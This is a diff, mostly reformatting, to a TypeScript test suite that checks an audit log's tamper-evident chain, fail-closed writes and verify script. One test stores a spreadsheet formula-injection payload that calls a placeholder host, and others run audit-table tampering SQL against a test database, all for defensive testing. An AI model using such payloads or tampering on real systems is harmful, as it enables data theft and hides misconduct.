@@ -41,9 +41,16 @@ describe("audit log", () => {
     const entry = await createUserSession(prisma(), ["DATA_ENTRY"], { regionId: w.regionA.id }, "entry1");
     // Text a spreadsheet would run as a formula, as an attacker could type it into a free-text field.
     await prisma().$transaction((tx) =>
-      recordAudit(tx, actorOf(entry), { action: "test.formula", objectType: "Note", objectId: '=HYPERLINK("http://x/?"&A1,"y")', detail: { note: "@SUM(1)" } }),
+      recordAudit(tx, actorOf(entry), {
+        action: "test.formula",
+        objectType: "Note",
+        objectId: '=HYPERLINK("http://x/?"&A1,"y")',
+        detail: { note: "@SUM(1)" },
+      }),
     );
-    await expect(saveRegion(entry, { code: "340700", name: "铜陵市", level: "CITY", provinceId: w.province.id })).rejects.toMatchObject({ code: "FORBIDDEN" });
+    await expect(saveRegion(entry, { code: "340700", name: "铜陵市", level: "CITY", provinceId: w.province.id })).rejects.toMatchObject({
+      code: "FORBIDDEN",
+    });
   });
 
   it("every row carries time, actor, role, scope, source IP, object, result and request id", async () => {
@@ -78,7 +85,11 @@ describe("audit log", () => {
     expect(report.problem).toMatchObject({ kind: "EDITED", id: victim.id.toString(), action: "region.create" });
     // The page's use case reports the same, and records the finding as a FAILURE.
     expect((await verifyAuditChain(auditor)).problem?.id).toBe(victim.id.toString());
-    expect(await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } })).toMatchObject({ action: "audit.verify", result: "FAILURE", objectId: victim.id.toString() });
+    expect(await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } })).toMatchObject({
+      action: "audit.verify",
+      result: "FAILURE",
+      objectId: victim.id.toString(),
+    });
     await tamper(`UPDATE "AuditEvent" SET "actorName" = '${victim.actorName}' WHERE id = ${victim.id}`);
     expect((await checkAuditChain(prisma())).ok).toBe(true);
   });
@@ -99,7 +110,11 @@ describe("audit log", () => {
     const rows = await prisma().auditEvent.findMany({ orderBy: { id: "asc" }, take: 3 });
     const [first, second, third] = rows;
     await tamper(`DELETE FROM "AuditEvent" WHERE id = ${second.id}`);
-    expect((await checkAuditChain(prisma())).problem).toMatchObject({ kind: "MISSING", id: third.id.toString(), afterId: first.id.toString() });
+    expect((await checkAuditChain(prisma())).problem).toMatchObject({
+      kind: "MISSING",
+      id: third.id.toString(),
+      afterId: first.id.toString(),
+    });
     await tamper(`DELETE FROM "AuditEvent" WHERE id = ${first.id}`);
     expect((await checkAuditChain(prisma())).problem).toMatchObject({ kind: "MISSING_AT_START", id: third.id.toString(), afterId: null });
     // Put them back (INSERT is allowed): the chain is whole again.
@@ -108,8 +123,12 @@ describe("audit log", () => {
   });
 
   it("fails closed: when the audit row cannot be written, the change it records is rolled back", async () => {
-    await sql(`CREATE FUNCTION audit_fault() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'audit store unavailable'; END $$`);
-    await sql(`CREATE TRIGGER "AuditEvent_fault" BEFORE INSERT ON "AuditEvent" FOR EACH ROW WHEN (NEW.action = 'region.create') EXECUTE FUNCTION audit_fault()`);
+    await sql(
+      `CREATE FUNCTION audit_fault() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'audit store unavailable'; END $$`,
+    );
+    await sql(
+      `CREATE TRIGGER "AuditEvent_fault" BEFORE INSERT ON "AuditEvent" FOR EACH ROW WHEN (NEW.action = 'region.create') EXECUTE FUNCTION audit_fault()`,
+    );
     try {
       await expect(saveRegion(admin, { code: "340800", name: "安庆市", level: "CITY", provinceId: w.province.id })).rejects.toThrow();
       expect(await prisma().region.findUnique({ where: { code: "340800" } })).toBeNull();
@@ -168,7 +187,8 @@ describe("audit log", () => {
           if (!["generated", "node_modules"].includes(e.name)) walk(p);
         } else if (/\.(ts|tsx|mjs|sql)$/.test(e.name)) {
           const t = fs.readFileSync(p, "utf8");
-          if (/auditEvent\.(delete|deleteMany|update|updateMany|upsert)\b|(DELETE\s+FROM|TRUNCATE|UPDATE)\s+"?AuditEvent"?/i.test(t)) offenders.push(p);
+          if (/auditEvent\.(delete|deleteMany|update|updateMany|upsert)\b|(DELETE\s+FROM|TRUNCATE|UPDATE)\s+"?AuditEvent"?/i.test(t))
+            offenders.push(p);
         }
       }
     };
@@ -185,7 +205,10 @@ describe("npm run audit:verify", () => {
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), "liangdi-audit-"));
     const env = { ...process.env, LIANGDI_DATA_DIR: dir, LIANGDI_ADMIN_PASSWORD: "Install#2026x", DATABASE_URL: "" };
     const run = (script: string, ...args: string[]) =>
-      spawnSync(process.execPath, ["node_modules/tsx/dist/cli.mjs", "--conditions=react-server", script, ...args], { env, encoding: "utf8" });
+      spawnSync(process.execPath, ["node_modules/tsx/dist/cli.mjs", "--conditions=react-server", script, ...args], {
+        env,
+        encoding: "utf8",
+      });
     try {
       expect(run("scripts/create-admin.ts", "first_admin", "SYSTEM_ADMIN").status).toBe(0);
       expect(run("scripts/create-admin.ts", "first_auditor", "AUDIT_ADMIN").status).toBe(0);
@@ -202,7 +225,11 @@ describe("npm run audit:verify", () => {
 
       const bad = run("scripts/audit-verify.ts", "--json");
       expect(bad.status).toBe(1);
-      expect(JSON.parse(bad.stdout)).toMatchObject({ ok: false, checked: 1, problem: { kind: "EDITED", id: rows[0].id, action: "user.create" } });
+      expect(JSON.parse(bad.stdout)).toMatchObject({
+        ok: false,
+        checked: 1,
+        problem: { kind: "EDITED", id: rows[0].id, action: "user.create" },
+      });
     } finally {
       fs.rmSync(dir, { recursive: true, force: true });
     }
